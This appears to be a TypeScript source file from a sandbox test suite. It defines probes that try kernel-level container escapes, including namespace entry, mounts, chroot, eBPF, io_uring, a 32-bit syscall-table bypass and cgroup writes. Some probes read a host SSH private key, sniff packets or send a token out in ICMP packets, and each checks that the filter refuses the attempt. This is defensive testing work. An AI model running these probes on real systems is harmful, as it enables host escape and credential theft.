// Owns the programs that ask the kernel for more than a plugin needs: namespaces, mounts, tracing
// of the kernel, sockets of rare families, and doors in which holes were found before.

import { existsSync, readFileSync } from 'node:fs';
import { groupsOf } from '../evidence.ts';
import { arrivedAt, hasTwoUserNamespaces, holds, printedSecret, some } from '../evidence.ts';
import type { Probe } from '../probe.ts';

const FILTER = 'the call filter refuses it, whatever rights there are';
const REFUSED = /Operation not permitted/;
const NO_CALL = /Function not implemented/;
const NO_FAMILY = /Address family not supported/;

type Asked = Pick<Probe, 'id' | 'class' | 'tries' | 'standsFor' | 'program'>;

/** A program that gets a kernel object and shows it as its descriptor 9. */
function opens(kind: RegExp, asked: Asked, rest: Partial<Probe> = {}): Probe {
  return {
    language: 'python',
    rights: 'nothing',
    recorded: 'the host sees the object as a descriptor of the process',
    succeeded: holds(kind),
    fails: REFUSED,
    why: FILTER,
    needsRoot: true,
    ...asked,
    ...rest,
  };
}

/** A socket of a family that a plugin has no use for. */
function socketOf(asked: Omit<Asked, 'class' | 'program'>, call: string): Probe {
  const program = `hold(socket.socket(${call}).detach())`;
  return opens(/^socket:/, { ...asked, class: 'rare sockets', program }, { fails: NO_FAMILY });
}

/** Reads a small file of the host, for programs that change one. */
function hostFile(path: string): string {
  try {
    return readFileSync(path, 'utf8').trim();
  } catch {
    // There is none on this kernel.
    return '';
  }
}

const namespaceProbes: readonly Probe[] = [
  {
    id: 'user-namespace',
    class: 'namespaces',
    tries: 'becomes root of a second user namespace',
    standsFor: 'CVE-2021-3493 overlayfs and capabilities in a user namespace',
    language: 'python',
    rights: 'nothing',
    program: `
if os.fork() == 0: call(N['unshare'], 0x10000000); hold()
os.wait()`,
    recorded: 'the host sees processes in two user namespaces',
    succeeded: hasTwoUserNamespaces,
    fails: REFUSED,
    why: FILTER,
    isQuick: true,
  },
  {
    id: 'clone-namespace',
    class: 'namespaces',
    tries: 'clones into a second user namespace, by clone3 and by clone',
    standsFor: 'CVE-2023-0386 overlayfs in a user namespace gives rights',
    language: 'python',
    rights: 'nothing',
    program: `
a = ctypes.create_string_buffer(struct.pack('QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0))
try: p = call(N['clone3'], a, 64)
except OSError as e: print(e); p = call(N['clone'], 0x10000000 | 17, 0, 0, 0, 0)
if p == 0: hold()
time.sleep(5)`,
    recorded: 'the host sees processes in two user namespaces',
    succeeded: hasTwoUserNamespaces,
    fails: /Function not implemented[^]*Operation not permitted/,
    why: FILTER,
  },
  {
    id: 'mount',
    class: 'mounts',
    tries: 'mounts a file system',
    standsFor: 'ATT&CK T1611 Escape to Host',
    language: 'python',
    rights: 'folder',
    program: `
if os.getuid() == 0: C.unshare(0x20000); C.mount(b'none', b'/', None, 0x44000, None)
call(N['mount'], G['token'].encode(), G['granted'].encode(), b'tmpfs', 0, None)
hold()`,
    recorded: 'the host sees the mount in the table of the process',
    succeeded: some(({ mounts }, { ground }) => mounts.includes(` ${ground.token} `)),
    fails: REFUSED,
    why: FILTER,
    needsRoot: true,
  },
  opens(/fscontext/, {
    id: 'new-mount-calls',
    class: 'mounts',
    tries: 'begins a mount by fsopen',
    standsFor: 'CVE-2022-0185 fsconfig, for who may make a user namespace',
    program: `hold(call(N['fsopen'], b'tmpfs', 0))`,
  }),
  {
    id: 'change-root',
    class: 'mounts',
    tries: 'changes its root (chroot), the first step out of another one',
    standsFor: 'CWE-243 Creation of chroot Jail Without Changing Working Directory',
    language: 'python',
    rights: 'folder',
    program: `os.chroot(G['granted']); hold()`,
    recorded: 'the host sees the granted folder as the root of the process',
    succeeded: some(({ root }) => root.endsWith('/granted')),
    fails: REFUSED,
    why: FILTER,
    needsRoot: true,
  },
  {
    id: 'file-handle',
    class: 'file handles',
    tries: 'opens a file of the host by its handle, from a granted folder',
    standsFor: 'CVE-2014-3519 open_by_handle_at leaves a container',
    language: 'python',
    rights: 'folder',
    program: `
h = ctypes.create_string_buffer(bytes.fromhex(G['handle']))
m = os.open(G['granted'], os.O_RDONLY)
print(os.read(call(N['open_by_handle_at'], m, h, 0), 100))`,
    recorded: 'the secret of the file in its output',
    succeeded: printedSecret,
    fails: REFUSED,
    why: FILTER,
    bystander: 'agent',
    needsRoot: true,
  },
  {
    id: 'enter-namespaces',
    class: 'namespaces',
    tries: 'enters the namespaces of the agent, and reads there',
    standsFor: 'ATT&CK T1611 Escape to Host',
    language: 'python',
    rights: 'nothing',
    program: `
p = call(434, int(G['pid']), 0)
call(N['setns'], p, 0x00020000 | 0x40000000)
print(open(G['home'] + '/.ssh/id_ed25519').read())`,
    recorded: 'the secret of the file in its output',
    succeeded: printedSecret,
    fails: /No such process|Operation not permitted/,
    why: 'the number means nobody, and the call filter refuses setns',
    bystander: 'agent',
    needsRoot: true,
  },
];

const doorProbes: readonly Probe[] = [
  opens(/bpf-map/, {
    id: 'bpf',
    class: 'doors of the kernel',
    tries: 'makes a map of eBPF',
    standsFor: 'CVE-2021-3490 eBPF verifier',
    program: `
a = ctypes.create_string_buffer(struct.pack('IIIII', 2, 4, 8, 1, 0) + bytes(60))
hold(call(N['bpf'], 0, a, 72))`,
  }),
  opens(/perf_event/, {
    id: 'perf',
    class: 'doors of the kernel',
    tries: 'opens a counter of performance events',
    standsFor: 'CVE-2013-2094 perf_event_open',
    program: `
a = ctypes.create_string_buffer(struct.pack('IIQQQQ', 1, 112, 0, 0, 0, 0) + bytes(100))
hold(call(N['perf_event_open'], a, 0, -1, -1, 0))`,
  }),
  opens(
    /io_uring/,
    {
      id: 'io-uring',
      class: 'calls past the filter',
      tries: 'gets a ring by which files and sockets are used without system calls',
      standsFor: 'CVE-2022-29582 io_uring',
      program: `hold(call(N['io_uring_setup'], 4, ctypes.create_string_buffer(120)))`,
    },
    { fails: NO_CALL, isQuick: true },
  ),
  opens(/userfaultfd/, {
    id: 'userfault',
    class: 'doors of the kernel',
    tries: 'handles its own page faults, which holds the kernel at a chosen place',
    standsFor: 'CVE-2018-18397 userfaultfd',
    program: `hold(call(N['userfaultfd'], 0))`,
  }),
  opens(/fanotify/, {
    id: 'fanotify',
    class: 'watching the host',
    tries: 'watches every file that is opened',
    standsFor: 'ATT&CK T1083 File and Directory Discovery',
    program: `hold(call(N['fanotify_init'], 0, 0))`,
  }),
  {
    id: 'alternative-table',
    class: 'calls past the filter',
    tries: 'makes a call by the table for 32-bit programs, from machine code of its own',
    standsFor: 'CVE-2009-0835 seccomp and the 32-bit call table',
    language: 'python',
    rights: 'folder',
    program: `
import mmap
path = (G['granted'] + '/by-' + G['token']).encode() + bytes(1)
C.mmap.restype = ctypes.c_void_p
low = C.mmap(ctypes.c_void_p(0x20000), 4096, 7, 0x32, -1, 0)
ctypes.memmove(low + 512, path, len(path))
code = bytes.fromhex('53b827000000bb') + struct.pack('I', low + 512) + bytes.fromhex('b9ed010000cd805bc3')
ctypes.memmove(low, code, len(code))
print('ends with', ctypes.CFUNCTYPE(ctypes.c_int)(low)())`,
    recorded: 'the folder that the call makes',
    succeeded: ({ ground }) => existsSync(`${ground.facts['GRANTED']}/by-${ground.token}`),
    architecture: 'x64',
    fails: /signal (?:SIGSYS|31)|exit code 159|Bad system call/,
    why: 'the filter ends a process that uses another table',
  },
  {
    id: 'kernel-setting',
    class: 'settings of the kernel',
    tries: 'changes a setting of the kernel below /proc/sys',
    standsFor: 'CVE-2022-0811 CRI-O lets a pod set kernel parameters',
    language: 'sh',
    rights: 'nothing',
    program: `
p=/proc/sys/net/ipv4/ip_unprivileged_port_start
echo $((0x$(echo $G_TOKEN | cut -c1-3) + 2000)) > $p; cat $p`,
    recorded: 'the setting of the host has the new value',
    succeeded: ({ ground }) =>
      hostFile('/proc/sys/net/ipv4/ip_unprivileged_port_start') ===
      String(Number.parseInt(ground.token.slice(0, 3), 16) + 2_000),
    fails: /Permission denied|Read-only file system|nonexistent/,
    why: 'it is not root, and its network is another one',
    needsRoot: true,
  },
  {
    id: 'control-group',
    class: 'settings of the kernel',
    tries: 'writes to the control groups of the host',
    standsFor: 'CVE-2022-0492 release_agent of control groups',
    language: 'sh',
    rights: 'nothing',
    program: `mkdir /sys/fs/cgroup/*/escape-$G_TOKEN /sys/fs/cgroup/escape-$G_TOKEN; ls -d /sys/fs/cgroup/*/escape-$G_TOKEN /sys/fs/cgroup/escape-$G_TOKEN`,
    recorded: 'the groups exist',
    succeeded: ({ ground }) => groupsOf(ground.token).length > 0,
    fails: /No such file/,
    why: '/sys is not there',
    needsRoot: true,
  },
  {
    id: 'host-name',
    class: 'settings of the kernel',
    tries: 'gives the machine another name',
    standsFor: 'CWE-15 External Control of System or Configuration Setting',
    language: 'python',
    rights: 'nothing',
    program: `socket.sethostname('name-' + G['token'])`,
    recorded: 'the world has the new name (it has one of its own)',
    succeeded: ({ ground }) => hostFile('/proc/sys/kernel/hostname') === `name-${ground.token}`,
    fails: REFUSED,
    why: FILTER,
    needsRoot: true,
  },
];

const socketProbes: readonly Probe[] = [
  {
    id: 'sniff',
    class: 'raw sockets',
    tries: 'listens to every packet',
    standsFor: 'ATT&CK T1040 Network Sniffing',
    language: 'python',
    rights: 'host',
    program: `
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.settimeout(3)
for i in range(200):
  d = s.recv(65536)
  if b'wire' in d: print(d); break`,
    recorded: 'a secret that was sent between processes of the host, in its output',
    succeeded: printedSecret,
    fails: NO_FAMILY,
    why: FILTER,
    bystander: 'agent',
    needsRoot: true,
  },
  {
    id: 'icmp',
    class: 'raw sockets',
    tries: 'sends data in ICMP packets of its own',
    standsFor: 'ATT&CK T1095 Non-Application Layer Protocol',
    language: 'python',
    rights: 'host',
    program: `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
d = struct.pack('BBHHH', 8, 0, 0, 1, 1) + G['token'].encode() + bytes(12)
n = sum(struct.unpack('!%dH' % (len(d) // 2), d[:len(d) // 2 * 2])); n = (n >> 16) + (n & 0xffff); n += n >> 16
s.sendto(d[:2] + struct.pack('!H', ~n & 0xffff) + d[4:], ('203.0.113.1', 0)); time.sleep(0.5)`,
    recorded: 'the packet arrives, with its token',
    succeeded: arrivedAt(/^icmp$/),
    fails: REFUSED,
    why: FILTER,
    bystander: 'agent',
    needsRoot: true,
  },
  socketOf(
    {
      id: 'netfilter',
      tries: 'talks to the packet filter of the kernel',
      standsFor: 'CVE-2024-1086 nf_tables',
    },
    'socket.AF_NETLINK, socket.SOCK_RAW, 12',
  ),
  socketOf(
    {
      id: 'virtual-machine-socket',
      tries: 'opens a way to the host of the virtual machine',
      standsFor: 'CVE-2025-21756 vsock',
    },
    '40, socket.SOCK_STREAM, 0',
  ),
  socketOf(
    { id: 'packet-ring', tries: 'opens a packet socket', standsFor: 'CVE-2017-7308 AF_PACKET' },
    'socket.AF_PACKET, socket.SOCK_RAW, 0',
  ),
];

export const kernelProbes: readonly Probe[] = [...namespaceProbes, ...doorProbes, ...socketProbes];
